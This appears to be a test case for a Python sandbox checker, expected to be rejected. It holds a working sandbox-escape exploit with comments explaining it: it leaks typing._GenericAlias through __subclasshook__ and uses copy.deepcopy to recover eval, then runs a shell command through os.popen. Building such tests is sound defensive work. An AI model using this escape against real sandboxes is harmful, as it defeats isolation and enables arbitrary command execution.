# expect: reject dunder
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: implicit protocol call hands the program a class by value:
#   abc.ABC's isinstance() calls the program's __subclasshook__(cls, C) with the
#   class of any object (here typing._GenericAlias), a parameter the class_value
#   rule does not track (it only restricts type(x) / x.__class__). With the
#   private class as a constructor, forge an alias whose reduce does
#   typing.globals()[self._name] (name="__builtins__"), and copy.deepcopy (allowed)
#   runs that reduce: operator.getitem(builtins dict, "eval").
# Goal reached: the builtin eval as a value, called -> ran `id`.
# Output seen under python3 (3.11.7), in a throw-away temp dir:
#   _GenericAlias
#   <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import abc
import copy
import typing

SEEN = []


class Hook(abc.ABC):
    @classmethod
    def __subclasshook__(cls, C):
        SEEN.append(C)
        return NotImplemented


isinstance(typing.List[int], Hook)
Alias = SEEN[0]
print(Alias.__name__)
fake = Alias(dict, ("eval",), name="__builtins__")
ev = copy.deepcopy(fake)
print(ev)
print(ev("__import__('os').popen('id').read()"))
